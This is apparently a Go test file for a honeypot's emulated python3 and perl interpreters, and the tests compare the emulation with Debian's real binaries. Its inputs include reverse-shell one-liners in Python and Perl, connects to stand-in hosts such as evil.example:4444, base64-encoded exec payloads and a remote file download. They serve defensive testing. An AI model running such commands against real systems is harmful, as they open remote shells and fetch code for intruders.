package commands

import (
	"bytes"
	"context"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/lure-sensor/lure/internal/testenv"
)

// pyCases are programs whose behaviour the emulation must share with Debian's python3; the
// connects go to the loopback (refused on the host and in the persona alike).
var pyCases = []string{
	`print("hi", 1+2, 'a'*3, 7//2, -4//3, None, True, [1,'x'])`,
	`print(b"ab\n" + b'c')`,
	`import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",1));os.dup2(s.fileno(),0)`,
	"import socket\ns=socket.socket()\ns.connect((\"127.0.0.1\",1))",
	`import base64;exec(base64.b64decode("aW1wb3J0IHNvY2tldApzPXNvY2tldC5zb2NrZXQoKQpzLmNvbm5lY3QoKCIxMjcuMC4wLjEiLDEpKQ=="))`,
	`import base64;exec(base64.b64decode('cHJpbnQoJ3gnKQ==').decode())`,
	`import requests`,
	`import os.nothere`,
	`foo()`,
	`import os;print "a"`,
	"import os\nprint \"x\", 1\n",
	`import sys; sys.exit(3)`,
	`import sys; print('out'); sys.exit("bye")`,
	`x = [i for i in range(3)]`,
	`print('it\'s', "q\"q", '\x41\t|')`,
	`import os; print(os.uname()[0], os.uname()[-1], "ab"[1])`,
}

// debianPython is the host's Debian python3 for comparisons. Outside CI its absence skips
// loudly; in CI it fails.
func debianPython(t *testing.T) string {
	t.Helper()
	const p = "/usr/bin/python3"
	if _, err := os.Stat(p); err != nil {
		testenv.SkipOrFail(t, "no %s here (apt-get install python3)", p)
	}
	return p
}

func TestPythonMatchesDebian(t *testing.T) {
	py := debianPython(t)
	if out, _ := exec.Command(py, "-V").Output(); string(out) != pyVersion+"\n" {
		t.Skipf("SKIPPED (not a pass): %s is %q, not Debian 12's", py, out)
	}
	e := newTestEnv(t)
	for _, code := range pyCases {
		cmd := exec.Command(py, "-c", code)
		cmd.Env = []string{"PATH=/usr/bin:/bin", "LANG=C.UTF-8"}
		cmd.Dir = t.TempDir()
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		err := cmd.Run()
		st := 0
		if ee, ok := err.(*exec.ExitError); ok {
			st = ee.ExitCode()
		}
		gotOut, gotErr, gotSt := e.run("python3", "-c", code)
		if gotOut != out.String() || gotErr != errb.String() || gotSt != st {
			t.Errorf("python3 -c %q\n got %q %q %d\nwant %q %q %d", code, gotOut, gotErr, gotSt, out.String(), errb.String(), st)
		}
		// the same program as a script file and on stdin
		dir := t.TempDir()
		f := filepath.Join(dir, "x.py")
		os.WriteFile(f, []byte(code+"\n"), 0o644)
		if err := e.vfs().WriteFile("/tmp/x.py", []byte(code+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		cmd = exec.Command(py, f)
		cmd.Dir = dir
		out.Reset()
		errb.Reset()
		cmd.Stdout, cmd.Stderr = &out, &errb
		err = cmd.Run()
		st = 0
		if ee, ok := err.(*exec.ExitError); ok {
			st = ee.ExitCode()
		}
		gotOut, gotErr, gotSt = e.run("python3", "/tmp/x.py")
		want := strings.ReplaceAll(errb.String(), f, "/tmp/x.py")
		if gotOut != out.String() || gotErr != want || gotSt != st {
			t.Errorf("python3 file %q\n got %q %q %d\nwant %q %q %d", code, gotOut, gotErr, gotSt, out.String(), want, st)
		}
	}
}

func TestPythonOffline(t *testing.T) {
	e := newTestEnv(t)
	tb := "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\n"
	e.expect([]string{"python3", "-c", `import socket;s=socket.socket();s.connect(("1.2.3.4",4444))`}, "", tb+"OSError: [Errno 101] Network is unreachable\n", 1)
	e.expect([]string{"python3", "-c", `import socket;s=socket.socket();s.connect(("evil.example",4444))`}, "", tb+"socket.gaierror: [Errno -3] Temporary failure in name resolution\n", 1)
	// the real python3 of the reference tree (3.11.2-6+deb12u9; the host's older 3.11.2
	// (deb12u6 here) numbers the library lines differently), run in a network namespace without routes
	for code, file := range map[string]string{
		`import urllib.request;urllib.request.urlretrieve('http://192.0.2.44/x','/tmp/x')`: "python3-urlretrieve-http-unreachable.txt",
		`import urllib.request;urllib.request.urlopen('https://example.com/x')`:            "python3-urlopen-https-unresolvable.txt",
	} {
		want, err := os.ReadFile(filepath.Join("testdata", file))
		if err != nil {
			t.Fatal(err)
		}
		e.expect([]string{"python3", "-c", code}, "", string(want), 1)
	}
	e.expect([]string{"python3", "-V"}, "Python 3.11.2\n", "", 0)
	e.expect([]string{"python3", "--version"}, "Python 3.11.2\n", "", 0)
	e.expect([]string{"python3", "/tmp/none.py"}, "", "/usr/bin/python3: can't open file '/tmp/none.py': [Errno 2] No such file or directory\n", 2)
	out, _, st := e.runIn("print(6*7)\n", "python3")
	if out != "42\n" || st != 0 {
		t.Errorf("script on stdin: %q %d", out, st)
	}
}

func TestPythonRunsThroughShell(t *testing.T) {
	e := newTestEnv(t)
	e.sub = func(ctx context.Context, script string, a []string, in io.Reader, so, se io.Writer) int {
		io.WriteString(so, "ran "+script+"\n")
		return 2
	}
	e.expect([]string{"python3", "-c", `import os; print(os.system("uname -a"))`}, "ran uname -a\n512\n", "", 0)
	e.expect([]string{"python3", "-c", `import pty; pty.spawn("/bin/bash")`}, "ran /bin/bash\n", "", 0)
	e.expect([]string{"python3", "-c", `import subprocess; subprocess.call(["/bin/sh", "-i"])`}, "ran /bin/sh -i\n", "", 0)
	e.expect([]string{"python3", "-c", `import base64;exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=="))`}, "ran id\n", "", 0)
	if len(e.subRuns) != 4 {
		t.Errorf("sub runs: %v", e.subRuns)
	}
}

func TestPerlVersionMatchesDebian(t *testing.T) {
	out, _, st := hostRun(t, []string{"PATH=/usr/bin:/bin"}, "perl", "-v")
	if !strings.Contains(out, "v5.36.0") {
		t.Skipf("SKIPPED (not a pass): host perl is not 5.36.0")
	}
	e := newTestEnv(t)
	e.expect([]string{"perl", "-v"}, out, "", st)
}

// perlCases are -e programs whose output the emulation shares with Debian's perl.
var perlCases = [][]string{
	{"-e", `print "a\tb $x\n"; $x=5; print "v=$x\n";`},
	{"-e", `use Foo::Bar;`},
	{"-e", `die "x"`},
	{"-e", `die "y\n"`},
	{"-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton("127.0.0.1"))) or die "no: $!";`},
	{"-e", `use Socket;$i="127.0.0.1";$p=1;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};`},
	{"-e", `use MIME::Base64;eval(decode_base64("cHJpbnQgImRlY29kZWRcbiI7"))`},
	{"-e", `print 'single $x\n';`, "-e", `print "\n";`},
	{"-e", `exit 3`},
	{"/nonexist.pl"},
	{"-MFoo", "-e", "print 1"},
}

func TestPerlMatchesDebian(t *testing.T) {
	if out, _, _ := hostRun(t, []string{"PATH=/usr/bin:/bin"}, "perl", "-v"); !strings.Contains(out, "v5.36.0") {
		t.Skipf("SKIPPED (not a pass): host perl is not 5.36.0")
	}
	e := newTestEnv(t)
	for _, args := range perlCases {
		wantOut, wantErr, wantSt := hostRun(t, []string{"PATH=/usr/bin:/bin", "LANG=C"}, "perl", args...)
		out, errs, st := e.run(append([]string{"perl"}, args...)...)
		if out != wantOut || errs != wantErr || st != wantSt {
			t.Errorf("perl %q\n got %q %q %d\nwant %q %q %d", args, out, errs, st, wantOut, wantErr, wantSt)
		}
	}
}

func TestPerlOffline(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("1.2.3.4"))) or die "cannot: $!";`},
		"", "cannot: Network is unreachable at -e line 1.\n", 101)
	e.sub = func(ctx context.Context, script string, a []string, in io.Reader, so, se io.Writer) int {
		io.WriteString(so, "ran "+script+"\n")
		return 0
	}
	e.expect([]string{"perl", "-e", `system("id"); exec "/bin/sh", "-i"; print "never\n"`}, "ran id\nran /bin/sh -i\n", "", 0)
}

func TestPythonREPL(t *testing.T) {
	e := newTestEnv(t)
	e.tty = true
	out, errs, st := e.runIn("1+2\nx = 'a'\nx*2\nfoo\nexit(4)\nprint('never')\n", "python3")
	if out != "3\n'aa'\n" || st != 4 {
		t.Errorf("REPL stdout %q status %d", out, st)
	}
	want := pyBanner + ">>> >>> >>> >>> Traceback (most recent call last):\n  File \"<stdin>\", line 1, in <module>\nNameError: name 'foo' is not defined\n>>> "
	if errs != want {
		t.Errorf("REPL stderr\n got %q\nwant %q", errs, want)
	}
	_, errs, st = e.runIn("", "python3")
	if st != 0 || errs != pyBanner+">>> \n" {
		t.Errorf("REPL at end of input: %q %d", errs, st)
	}
}
